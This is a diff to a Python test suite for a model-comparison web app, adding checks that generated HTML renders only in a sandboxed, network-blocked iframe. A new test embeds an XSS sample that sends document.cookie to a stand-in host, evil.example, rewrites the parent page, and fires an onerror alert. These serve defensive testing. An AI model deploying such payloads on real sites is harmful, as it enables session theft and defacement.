@@ -5,6 +5,7 @@ a clear 4xx with an error code."""
 
 from __future__ import annotations
 
+import html
 import json
 import re
 import time
@@ -110,6 +111,7 @@ def test_markup_in_prompts_and_answers_is_inert(hostile: tuple[Arena, TestClient
         assert "content-security-policy" in page.headers
         assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
         assert page.headers["x-content-type-options"] == "nosniff"
+        assert "allow-same-origin" not in page.text  # a frame never shares our origin
         live = _LIVE.findall(_outside_frames(page.text))
         assert live == [], (payload, live)
         r = client.post(
@@ -263,3 +265,27 @@ def test_hostile_bytes_in_model_output_fail_or_pass_cleanly(db_url: str) -> None
         page = client.get(f"/battles/{created['id']}")
         assert page.status_code == 200
         assert _LIVE.findall(_outside_frames(page.text)) == []
+
+
+def test_generated_html_runs_only_in_the_network_blocked_sandbox(db_url: str) -> None:
+    from modelarena.web.app import create_app
+
+    doc = (
+        "```html\n<!doctype html><html><head><title>x</title></head><body>"
+        "<script>fetch('https://evil.example/?c=' + document.cookie);"
+        "parent.document.body.innerHTML='pwned'</script>"
+        "<img src=x onerror=alert(1)></body></html>\n```"
+    )
+    arena = scripted_arena(db_url, {"deepseek-v3": [doc], "gpt-4o": [doc]})
+    with TestClient(create_app(arena), raise_server_exceptions=False) as client:
+        status, created = _start(client, "A landing page", category="website")
+        assert status == 201, created
+        assert _wait(client, created["id"])["status"] == "complete"
+        page = client.get(f"/battles/{created['id']}").text
+        frames = re.findall(r"<iframe\b[^>]*>", page)
+        assert frames and all('sandbox="allow-scripts"' in f for f in frames), frames
+        assert "allow-same-origin" not in page
+        srcdocs = [html.unescape(m) for m in re.findall(r'srcdoc="([^"]*)"', page)]
+        assert srcdocs and all("connect-src 'none'" in d for d in srcdocs)
+        assert all(d.index("Content-Security-Policy") < d.index("<script") for d in srcdocs)
+        assert _LIVE.findall(_outside_frames(page)) == []
